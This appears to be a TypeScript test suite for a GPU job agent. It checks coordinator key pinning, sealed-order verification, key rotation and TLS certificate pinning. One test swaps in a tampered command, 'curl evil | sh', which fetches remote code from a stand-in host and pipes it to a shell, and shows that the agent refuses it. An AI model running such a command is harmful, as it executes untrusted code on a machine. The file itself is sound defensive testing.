/**
 * The agent pins the coordinator's key and checks every order (issue 19): a real agent (startAgent, real client,
 * real loops) against a small fake coordinator that seals with a test key, and sometimes lies.
 */
import assert from 'node:assert/strict';
import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { type Assignment, JobSpec } from '@gpux/protocol';
import { certFingerprint, makeTestCa, OPENSSL_WHY, opensslAvailable, requireComponent } from '@gpux/testing';
import {
  assignmentOrder,
  COORDINATOR_KEYS_FILE,
  CoordinatorNotTrustedError,
  CoordinatorTrust,
  IDENTITY_FETCH_INTERVAL_MS,
  loadAgentConfig,
  readPinnedKeys,
  silentLogger,
  startAgent,
} from '../src/index.js';
import { chainLink, coordinatorKey, sealAssignment, sealedCancel, type TestCoordinatorKey, testKey } from './coordinator-seal.js';
import { FakeCoordinator, until } from './fake-coordinator.js';
import { advertisement, agent, recordingExecutor, recordingLogger, type T } from './recording-agent.js';
import { tempDir } from './helpers.js';

const spec = (command: string[]) => JobSpec.parse({ name: 't', image: 'busybox', command });
const assignment = (attemptId: string, command: string[]): Assignment => ({ attemptId, jobId: `job-${attemptId}`, spec: spec(command), gpuIndices: [], leaseExpiresAt: Date.now() + 60_000 });

describe('pinning the coordinator key', () => {
  test('from the enrollment token: the key the token names is pinned (0600), and the node takes sealed work', async (t) => {
    const dir = await tempDir(t);
    const c = await new FakeCoordinator().listen(t);
    const a = await agent(t, c, dir, { enrollmentToken: `gpux_enroll_secret.${testKey.keyId}` });
    const pins = await readPinnedKeys(dir);
    assert.equal(pins.get(testKey.keyId)?.source, 'enrollment-token');
    assert.equal(pins.get(testKey.keyId)?.publicKey, testKey.publicKey);
    assert.equal((await stat(join(dir, COORDINATOR_KEYS_FILE))).mode & 0o777, 0o600);
    c.pending.push(sealAssignment(assignment('att-1', ['echo', 'hi']), c.nodeId));
    await until('the result', () => c.results.find((r) => r.attemptId === 'att-1'));
    assert.deepEqual(a.started, [{ attemptId: 'att-1', command: ['echo', 'hi'] }]);
    assert.deepEqual(c.refused, []);
  });

  test('from --coordinator-key', async (t) => {
    const dir = await tempDir(t);
    const c = await new FakeCoordinator().listen(t);
    await agent(t, c, dir, { coordinatorKey: testKey.keyId.toUpperCase() });
    assert.equal((await readPinnedKeys(dir)).get(testKey.keyId)?.source, 'coordinator-key');
  });

  test('trust on first use when nothing names a key: pinned, with a warning that says how to pin explicitly', async (t) => {
    const dir = await tempDir(t);
    const c = await new FakeCoordinator().listen(t);
    const a = await agent(t, c, dir);
    assert.equal((await readPinnedKeys(dir)).get(testKey.keyId)?.source, 'first-use');
    const warning = a.lines.find((l) => l.level === 'warn' && l.msg.includes('trust on first use'));
    assert.ok(warning, JSON.stringify(a.lines));
    assert.match(warning.msg, /--coordinator-key FINGERPRINT/);
  });

  test('a coordinator signing with another key is refused: registration fails with what is trusted, since when, and what to do', async (t) => {
    const dir = await tempDir(t);
    const real = await new FakeCoordinator().listen(t);
    const first = await agent(t, real, dir, { enrollmentToken: `gpux_enroll_secret.${testKey.keyId}` });
    await first.running.stop();
    const impostor = await new FakeCoordinator({ key: coordinatorKey() }).listen(t);
    const err = await agent(t, impostor, dir, { enrollmentToken: `gpux_enroll_secret.${testKey.keyId}` }).then(
      () => assert.fail('registered with an impostor'),
      (e: unknown) => e,
    );
    assert.ok(err instanceof CoordinatorNotTrustedError, String(err));
    const day = new Date().toISOString().slice(0, 10);
    assert.match(err.message, new RegExp(`the coordinator at ${impostor.url} is not the one this node is enrolled with: it signs with key ${impostor.key.keyId.slice(0, 16)}… but this node trusts ${testKey.keyId.slice(0, 16)}… \\(pinned from the enrollment token on ${day}\\)`));
    assert.match(err.message, /move .*coordinator-keys\.json away and start again with --coordinator-key/);
    assert.equal(impostor.identityReads, 1, 'it looked for an endorsement of the new key once');
  });

  test('a fresh node whose token names another key refuses the coordinator before pinning anything', async (t) => {
    const dir = await tempDir(t);
    const impostor = await new FakeCoordinator({ key: coordinatorKey() }).listen(t);
    await assert.rejects(agent(t, impostor, dir, { enrollmentToken: `gpux_enroll_secret.${testKey.keyId}` }), (e: Error) => {
      assert.ok(e instanceof CoordinatorNotTrustedError);
      assert.match(e.message, /named by the enrollment token/);
      return true;
    });
    assert.equal((await readPinnedKeys(dir)).size, 0);
  });

  test('a registration answer without a coordinator key is refused', async (t) => {
    const dir = await tempDir(t);
    const c = await new FakeCoordinator().listen(t);
    c.anonymousRegistration = true;
    await assert.rejects(agent(t, c, dir), /did not prove its identity/);
  });

  test('a pinned file that disagrees with --coordinator-key stops the agent before it registers, naming the file to move', async (t) => {
    const dir = await tempDir(t);
    const c = await new FakeCoordinator().listen(t);
    const first = await agent(t, c, dir);
    await first.running.stop();
    const other = coordinatorKey().keyId;
    const before = c.registrations;
    await assert.rejects(agent(t, c, dir, { coordinatorKey: other }), (e: Error) => {
      assert.match(e.message, new RegExp(`--coordinator-key ${other.slice(0, 16)}… is not the coordinator key this node already trusts`));
      assert.match(e.message, /move .*coordinator-keys\.json away and start again/);
      return true;
    });
    assert.equal(c.registrations, before);
  });

  test('a corrupt keys file stops the agent (never silently re-pinned)', async (t) => {
    const dir = await tempDir(t);
    const c = await new FakeCoordinator().listen(t);
    const first = await agent(t, c, dir);
    await first.running.stop();
    const file = join(dir, COORDINATOR_KEYS_FILE);
    const data = JSON.parse(await readFile(file, 'utf8'));
    data.keys[testKey.keyId].publicKey = coordinatorKey().publicKey;
    await writeFile(file, JSON.stringify(data));
    await assert.rejects(agent(t, c, dir), /coordinator-keys\.json is corrupt \(key [0-9a-f]{16}: the public key does not have this fingerprint\)/);
  });
});

describe('checking every order', () => {
  async function pinnedAgent(t: T) {
    const dir = await tempDir(t);
    const c = await new FakeCoordinator().listen(t);
    const a = await agent(t, c, dir, { coordinatorKey: testKey.keyId });
    return { dir, c, a };
  }

  test('an assignment altered after sealing (command changed) is refused, never run, reported, and not run on redelivery', async (t) => {
    const { c, a } = await pinnedAgent(t);
    const genuine = sealAssignment(assignment('att-1', ['echo', 'hi']), c.nodeId);
    const tampered = { ...genuine, spec: { ...genuine.spec, command: ['sh', '-c', 'curl evil | sh'] } };
    c.pending.push(tampered);
    const refusal = await until('the refusal', () => c.refused[0]);
    assert.equal(refusal.attemptId, 'att-1');
    assert.match(refusal.reason, /signature does not match its contents/);
    const logged = a.lines.find((l) => l.level === 'error' && l.msg.startsWith('refused an assignment'));
    assert.equal(logged?.obj.attemptId, 'att-1');
    // Redelivered (a coordinator that ignores the refusal): still not run.
    c.pending.push(tampered);
    c.pending.push(sealAssignment(assignment('att-2', ['echo', 'ok']), c.nodeId));
    await until('the next sealed job to run', () => c.results.find((r) => r.attemptId === 'att-2'));
    assert.deepEqual(
      a.started.map((s) => s.attemptId),
      ['att-2'],
    );
    assert.equal(c.refused.length, 1, 'the redelivery is dropped, not reported again');
    assert.ok(!c.started.includes('att-1'));
  });

  test('an unsigned assignment, one sealed for another node, and one whose seal expired are refused', async (t) => {
    const { c, a } = await pinnedAgent(t);
    c.pending.push(assignment('att-unsigned', ['echo']));
    c.pending.push(sealAssignment(assignment('att-other-node', ['echo']), 'n-someone-else'));
    const expired = sealAssignment(assignment('att-expired', ['echo']), c.nodeId);
    expired.seal = { ...(expired.seal as NonNullable<Assignment['seal']>), expiresAt: Date.now() - 3_600_000 };
    c.pending.push(expired);
    await until('three refusals', () => (c.refused.length === 3 ? true : undefined));
    const reasons = Object.fromEntries(c.refused.map((r) => [r.attemptId, r.reason]));
    assert.match(reasons['att-unsigned'] ?? '', /not signed by the coordinator/);
    assert.match(reasons['att-other-node'] ?? '', /does not match its contents/);
    assert.match(reasons['att-expired'] ?? '', /expired|does not match/);
    assert.deepEqual(a.started, []);
  });

  test('a cancel with a bad seal is ignored (logged once); a sealed one stops the attempt', async (t) => {
    const { c, a } = await pinnedAgent(t);
    c.pending.push(sealAssignment(assignment('att-long', ['wait']), c.nodeId));
    await until('the attempt to run', () => (a.started.length === 1 ? true : undefined));
    const forged = { attemptId: 'att-long', seal: sealedCancel('att-long', c.nodeId, coordinatorKey()).seal };
    const forOther = { attemptId: 'att-long', seal: sealedCancel('att-other', c.nodeId).seal };
    c.heartbeatCancel = [forged, { attemptId: 'att-long' }, forOther];
    await until('the cancels to be judged', () => (a.lines.some((l) => l.msg.startsWith('ignored a cancel')) ? true : undefined));
    const seen = c.heartbeats;
    await until('three more heartbeats carrying the same bad cancels', () => (c.heartbeats >= seen + 3 ? true : undefined));
    assert.deepEqual(a.stopped, []);
    assert.equal(a.running.activeAttempts, 1);
    assert.equal(a.lines.filter((l) => l.msg.startsWith('ignored a cancel')).length, 1, 'logged once per attempt');
    c.heartbeatCancel = [sealedCancel('att-long', c.nodeId)];
    await until('the sealed cancel to stop it', () => (a.stopped.includes('att-long') ? true : undefined));
    const result = await until('the cancelled result', () => c.results.find((r) => r.attemptId === 'att-long'));
    assert.equal(result.report.outcome, 'cancelled');
  });

  test('cancels in the start and log answers are checked too: unsealed ignored, sealed obeyed', async (t) => {
    const { c, a } = await pinnedAgent(t);
    c.startCancel = { seal: sealedCancel('att-other', c.nodeId).seal }; // a seal for another attempt
    c.pending.push(sealAssignment(assignment('att-talky', ['wait']), c.nodeId));
    await until('the attempt to run despite the false cancel', () => (a.started.length === 1 ? true : undefined));
    assert.ok(a.lines.some((l) => l.msg.startsWith('ignored a cancel') && l.obj.attemptId === 'att-talky'));
    c.logsCancel = { seal: sealedCancel('att-talky', c.nodeId).seal };
    const execution = a.executorLogs('att-talky');
    execution?.('stdout', 'some output\n'); // a log batch, whose answer carries the sealed cancel
    await until('the sealed cancel in the log answer to stop it', () => (a.stopped.includes('att-talky') ? true : undefined));
  });
});

describe('key rotation', () => {
  test('a new key endorsed by the pinned one is followed and persisted; a forged endorsement is not', async (t) => {
    const dir = await tempDir(t);
    const c = await new FakeCoordinator().listen(t);
    const a = await agent(t, c, dir, { coordinatorKey: testKey.keyId });
    const next = coordinatorKey();
    c.chain = [chainLink(testKey, null), chainLink(next, testKey)];
    c.key = next;
    c.pending.push(sealAssignment(assignment('att-rotated', ['echo']), c.nodeId, next));
    await until('the job sealed by the new key to run', () => c.results.find((r) => r.attemptId === 'att-rotated'));
    const pins = await readPinnedKeys(dir);
    assert.equal(pins.get(next.keyId)?.source, 'endorsement');
    assert.equal(pins.get(next.keyId)?.endorsedBy, testKey.keyId);
    assert.ok(a.lines.some((l) => l.msg.startsWith("following the coordinator's key rotation")));

    // A key "endorsed" by the pinned key, but the endorsement was signed by someone else.
    const mallory = coordinatorKey();
    const forged = chainLink(mallory, mallory);
    c.chain = [...c.chain, { ...forged, endorsement: { by: testKey.keyId, signature: forged.endorsement?.signature ?? '' } }];
    await a.running.stop();
    const again = await agent(t, c, dir); // a fresh agent: no identity read in the last 30 s
    c.pending.push(sealAssignment(assignment('att-mallory', ['echo']), c.nodeId, mallory));
    const refusal = await until('the refusal', () => c.refused.find((r) => r.attemptId === 'att-mallory'));
    assert.match(refusal.reason, /which this node does not trust/);
    assert.deepEqual(again.started, []);
    assert.equal((await readPinnedKeys(dir)).has(mallory.keyId), false);
  });

  test('a restarted agent keeps the followed key: a fresh registration signed by it is accepted without reading the chain', async (t) => {
    const dir = await tempDir(t);
    const c = await new FakeCoordinator().listen(t);
    const first = await agent(t, c, dir, { enrollmentToken: `gpux_enroll_secret.${testKey.keyId}` });
    const next: TestCoordinatorKey = coordinatorKey();
    c.chain = [chainLink(testKey, null), chainLink(next, testKey)];
    c.key = next;
    c.pending.push(sealAssignment(assignment('att-1', ['echo']), c.nodeId, next));
    await until('the run', () => c.results.find((r) => r.attemptId === 'att-1'));
    await first.running.stop();
    const reads = c.identityReads;
    await agent(t, c, dir, { enrollmentToken: `gpux_enroll_secret.${testKey.keyId}` });
    assert.equal(c.identityReads, reads);
  });
});

describe('TLS options', () => {
  test('--ca-file trusts a private CA; --coordinator-cert-sha256 pins the certificate (a wrong pin refuses the connection)', async (t) => {
    const skip = requireComponent('openssl', opensslAvailable(), OPENSSL_WHY).skip;
    if (skip) return t.skip(skip);
    const dir = await tempDir(t);
    const ca = makeTestCa(dir);
    const server = ca.servers.server as { cert: string; key: string };
    const c = await new FakeCoordinator({ tls: server }).listen(t);
    await agent(t, c, join(dir, 'node-a'), { caFile: ca.ca, coordinatorCertSha256: certFingerprint(server.cert) });
    assert.equal(c.registrations, 1);
    const wrongPin = 'ab'.repeat(32);
    const ctl = new AbortController();
    const config = loadAgentConfig({}, { coordinatorUrl: c.url, dataDir: join(dir, 'node-b'), executor: 'process', allowUnsafeProcess: true, caFile: ca.ca, coordinatorCertSha256: wrongPin });
    // The pin mismatch looks like an unreachable coordinator to the retry loop: abort once it has been tried.
    const log = recordingLogger();
    const started = startAgent(config, { executor: recordingExecutor().executor, logger: log.logger, advertisement, signal: ctl.signal });
    await until('a failed attempt', () => log.lines.find((l) => l.msg.includes('coordinator unreachable')));
    ctl.abort();
    await assert.rejects(started);
    assert.equal(c.registrations, 1);
    assert.match(String(log.lines.find((l) => l.msg.includes('coordinator unreachable'))?.obj.err), /pinned|certificate/);
  });

  test('an unreadable --ca-file stops the agent with the option named', async (t) => {
    const dir = await tempDir(t);
    const config = loadAgentConfig({}, { coordinatorUrl: 'https://127.0.0.1:1', dataDir: dir, executor: 'process', allowUnsafeProcess: true, caFile: join(dir, 'missing.pem') });
    await assert.rejects(startAgent(config, { executor: recordingExecutor().executor, advertisement }), /--ca-file \/ GPUX_CA_FILE=.*missing\.pem.* cannot be read/);
  });
});

describe('CoordinatorTrust', () => {
  test('an unknown key makes it read the chain at most once per 30 s, however many orders name one', async (t) => {
    const dir = await tempDir(t);
    let now = Date.now();
    let reads = 0;
    const next = coordinatorKey();
    let chain = [chainLink(testKey, null)];
    const trust = await CoordinatorTrust.open({
      dataDir: dir,
      coordinatorUrl: 'http://c',
      coordinatorKey: testKey.keyId,
      clock: { now: () => now },
      logger: silentLogger,
      fetchIdentity: async () => {
        reads++;
        return { signingKey: next.keyId, keys: chain };
      },
    });
    const nodeId = 'n-1';
    const sealed = (id: string) => sealAssignment(assignment(id, ['echo']), nodeId, next);
    const check = (a: Assignment) => trust.check(assignmentOrder(a, nodeId), a.seal);
    // The pinned key's public key comes from the chain on the first read; the new key is not endorsed yet.
    assert.equal((await check(sealed('a1'))).ok, false);
    assert.equal(reads, 1);
    assert.equal(trust.pinned().get(testKey.keyId)?.publicKey, testKey.publicKey, 'the named fingerprint learned its key from the chain');
    chain = [chainLink(testKey, null), chainLink(next, testKey)];
    await Promise.all([check(sealed('a2')), check(sealed('a3')), check(sealed('a4'))]);
    assert.equal(reads, 1, 'no second read within 30 s');
    now += IDENTITY_FETCH_INTERVAL_MS;
    const [x, y] = await Promise.all([check(sealed('a5')), check(sealed('a6'))]);
    assert.ok(x.ok && y.ok);
    assert.equal(reads, 2, 'two orders at once share one read');
    assert.equal((await readPinnedKeys(dir)).get(next.keyId)?.source, 'endorsement');
  });
});
